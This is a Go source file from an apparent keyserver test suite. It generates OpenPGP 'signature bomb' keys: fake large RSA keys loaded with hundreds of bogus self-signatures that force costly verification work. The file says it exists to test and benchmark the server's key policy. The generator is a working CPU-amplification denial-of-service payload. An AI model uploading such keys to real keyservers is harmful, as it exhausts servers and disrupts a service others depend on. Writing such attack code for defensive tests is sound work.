// bomb.go: keys built to make a keyserver verify as many expensive
// signatures as its upload limit lets through (issue 31, "CPU
// amplification"): the attack as code, for the benchmarks and tests that
// show the key policy bounds the work.

package keygen

import (
	"bytes"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"io"
	"math/big"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp/armor"
)

// Bomb describes a signature bomb: a v4 RSA key whose modulus need not be
// a product of primes (nobody can sign with it, and nobody needs to), and
// components loaded with self-signatures that claim the primary key as
// issuer and carry the right 16-bit digest prefix (the attacker computes
// the hash, which costs nothing), so that a verifier only learns they are
// bad after the RSA exponentiation. Their signature values are random
// numbers below the modulus.
type Bomb struct {
	// Bits is the RSA modulus size (default 16384, the largest that
	// OpenPGP implementations commonly accept).
	Bits int
	// Exponent is the RSA public exponent (default 2^24-1, the most
	// expensive exponent go-crypto parses: 23 squarings and 23
	// multiplications per check, against 16 and 1 for 65537). Kith's key
	// policy refuses exponents of more than 17 bits before any check, so
	// bombs that test the verification budget set 65537.
	Exponent int
	// UserIDs is the number of user IDs (default 1); each carries
	// SigsPerUserID bad positive certifications (default 990: with the
	// defaults, the key just fits the 2 MiB a key may have when read).
	UserIDs, SigsPerUserID int
	// Subkeys is the number of RSA subkeys of Bits bits (default 0); each
	// carries SigsPerSubkey bad binding signatures (default 100).
	Subkeys, SigsPerSubkey int
	// Created is the key's creation time (default 2020-01-01); the
	// signatures are dated after it, one second apart.
	Created time.Time
	// Seed makes the modulus and the signature values (same seed, same
	// bytes).
	Seed int64
}

// Armored returns the bomb ASCII-armored, as an uploader sends it to
// POST /pks/add.
func (b Bomb) Armored() ([]byte, error) {
	raw, err := b.Build()
	if err != nil {
		return nil, err
	}
	var out bytes.Buffer
	w, err := armor.Encode(&out, "PGP PUBLIC KEY BLOCK", nil)
	if err != nil {
		return nil, fmt.Errorf("keygen: armor the bomb: %w", err)
	}
	if _, err := w.Write(raw); err != nil {
		return nil, fmt.Errorf("keygen: armor the bomb: %w", err)
	}
	if err := w.Close(); err != nil {
		return nil, fmt.Errorf("keygen: armor the bomb: %w", err)
	}
	return out.Bytes(), nil
}

// Build returns the bomb as binary packets (new-format headers).
func (b Bomb) Build() ([]byte, error) {
	if b.Bits <= 0 {
		b.Bits = 16384
	}
	if b.Exponent <= 0 {
		b.Exponent = 1<<24 - 1
	}
	if b.UserIDs <= 0 && b.Subkeys <= 0 {
		b.UserIDs = 1
	}
	if b.SigsPerUserID <= 0 {
		b.SigsPerUserID = 990
	}
	if b.SigsPerSubkey <= 0 {
		b.SigsPerSubkey = 100
	}
	if b.Created.IsZero() {
		b.Created = time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)
	}
	rnd := seededReader(b.Seed, 0xb0b)
	primary, n, err := fakeRSAKey(rnd, b.Bits, b.Exponent, b.Created)
	if err != nil {
		return nil, err
	}
	fpr := fingerprintV4(primary)
	var out bytes.Buffer
	writePacket(&out, 6, primary)
	at := b.Created
	next := func() time.Time { at = at.Add(time.Second); return at }
	for u := 0; u < b.UserIDs; u++ {
		uid := []byte(fmt.Sprintf("Bomb %d <bomb%d@example.org>", u, u))
		writePacket(&out, 13, uid)
		for i := 0; i < b.SigsPerUserID; i++ {
			sig, err := badSignature(rnd, n, fpr, 0x13, next(), func(h io.Writer) {
				writeKeyHashed(h, primary)
				var hdr [5]byte
				hdr[0] = 0xb4
				binary.BigEndian.PutUint32(hdr[1:], uint32(len(uid)))
				h.Write(hdr[:])
				h.Write(uid)
			})
			if err != nil {
				return nil, err
			}
			writePacket(&out, 2, sig)
		}
	}
	for s := 0; s < b.Subkeys; s++ {
		sub, _, err := fakeRSAKey(rnd, b.Bits, b.Exponent, next())
		if err != nil {
			return nil, err
		}
		writePacket(&out, 14, sub)
		for i := 0; i < b.SigsPerSubkey; i++ {
			sig, err := badSignature(rnd, n, fpr, 0x18, next(), func(h io.Writer) {
				writeKeyHashed(h, primary)
				writeKeyHashed(h, sub)
			})
			if err != nil {
				return nil, err
			}
			writePacket(&out, 2, sig)
		}
	}
	return out.Bytes(), nil
}

// fakeRSAKey returns a v4 RSA public-key packet body with a random odd
// modulus of exactly bits bits and exponent e, and the modulus.
func fakeRSAKey(rnd io.Reader, bits, e int, created time.Time) ([]byte, *big.Int, error) {
	nb := make([]byte, (bits+7)/8)
	if _, err := io.ReadFull(rnd, nb); err != nil {
		return nil, nil, fmt.Errorf("keygen: bomb: %w", err)
	}
	extra := len(nb)*8 - bits // 0 to 7 bits above the modulus's top one
	nb[0] &= 0xff >> extra
	nb[0] |= 0x80 >> extra
	nb[len(nb)-1] |= 1
	n := new(big.Int).SetBytes(nb)
	body := []byte{4, 0, 0, 0, 0, 1} // v4, created, RSA
	binary.BigEndian.PutUint32(body[1:5], uint32(created.Unix()))
	body = appendMPI(body, n)
	body = appendMPI(body, big.NewInt(int64(e)))
	return body, n, nil
}

// badSignature returns a v4 RSA/SHA-256 signature body of type sigType by
// the key with fingerprint fpr, over what signed writes, with the right
// digest prefix and a random value below n.
func badSignature(rnd io.Reader, n *big.Int, fpr []byte, sigType byte, at time.Time, signed func(io.Writer)) ([]byte, error) {
	hashed := []byte{4, sigType, 1, 8, 0, 0}  // v4, type, RSA, SHA-256, hashed length
	hashed = append(hashed, 5, 2, 0, 0, 0, 0) // creation time
	binary.BigEndian.PutUint32(hashed[len(hashed)-4:], uint32(at.Unix()))
	hashed = append(hashed, 22, 33, 4) // issuer fingerprint, v4
	hashed = append(hashed, fpr...)
	binary.BigEndian.PutUint16(hashed[4:6], uint16(len(hashed)-6))
	h := sha256.New()
	signed(h)
	h.Write(hashed)
	var trailer [6]byte
	trailer[0], trailer[1] = 4, 0xff
	binary.BigEndian.PutUint32(trailer[2:], uint32(len(hashed)))
	h.Write(trailer[:])
	digest := h.Sum(nil)

	body := append([]byte(nil), hashed...)
	body = append(body, 0, 10, 9, 16) // unhashed: issuer key ID
	body = append(body, fpr[12:20]...)
	body = append(body, digest[0], digest[1])
	v := make([]byte, (n.BitLen()+7)/8)
	if _, err := io.ReadFull(rnd, v); err != nil {
		return nil, fmt.Errorf("keygen: bomb: %w", err)
	}
	s := new(big.Int).SetBytes(v)
	s.Mod(s, n)
	return appendMPI(body, s), nil
}

// appendMPI appends x as an OpenPGP multiprecision integer.
func appendMPI(b []byte, x *big.Int) []byte {
	bits := x.BitLen()
	b = append(b, byte(bits>>8), byte(bits))
	return append(b, x.Bytes()...)
}

// fingerprintV4 is the v4 fingerprint of a public-key packet body.
func fingerprintV4(body []byte) []byte {
	h := sha1.New()
	writeKeyHashed(h, body)
	return h.Sum(nil)
}

// writeKeyHashed writes a v4 key packet as signatures and fingerprints
// hash it: 0x99, a two-byte length, the body.
func writeKeyHashed(w io.Writer, body []byte) {
	w.Write([]byte{0x99, byte(len(body) >> 8), byte(len(body))})
	w.Write(body)
}

// writePacket writes a packet with a new-format header.
func writePacket(w *bytes.Buffer, tag byte, body []byte) {
	w.WriteByte(0xc0 | tag)
	switch n := len(body); {
	case n < 192:
		w.WriteByte(byte(n))
	case n < 8384:
		n -= 192
		w.WriteByte(byte(n>>8) + 192)
		w.WriteByte(byte(n))
	default:
		w.WriteByte(255)
		var l [4]byte
		binary.BigEndian.PutUint32(l[:], uint32(n))
		w.Write(l[:])
	}
	w.Write(body)
}
